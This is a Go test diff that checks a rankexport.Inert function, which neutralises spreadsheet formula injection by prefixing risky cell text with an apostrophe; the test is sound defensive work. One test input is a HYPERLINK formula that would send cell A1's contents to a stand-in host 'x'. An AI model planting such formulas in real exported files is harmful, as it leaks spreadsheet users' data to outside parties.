@@ -352,3 +352,15 @@ func TestFormatsLangsAndNames(t *testing.T) {
 		assert.ErrorIs(t, rankexport.Write(ctx, &bytes.Buffer{}, f, rk, rankexport.Meta{}), context.Canceled, f)
 	}
 }
+
+// TestInert: text that a spreadsheet would run as a formula is written as text.
+func TestInert(t *testing.T) {
+	t.Parallel()
+	for in, want := range map[string]string{
+		`=HYPERLINK("http://x/?a="&A1,"Nguyễn Văn A")`: `'=HYPERLINK("http://x/?a="&A1,"Nguyễn Văn A")`,
+		"+84 912": "'+84 912", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)", "\tx": "'\tx",
+		"Nguyễn Văn A": "Nguyễn Văn A", "": "", "SO-TC": "SO-TC",
+	} {
+		assert.Equal(t, want, rankexport.Inert(in), "%q", in)
+	}
+}
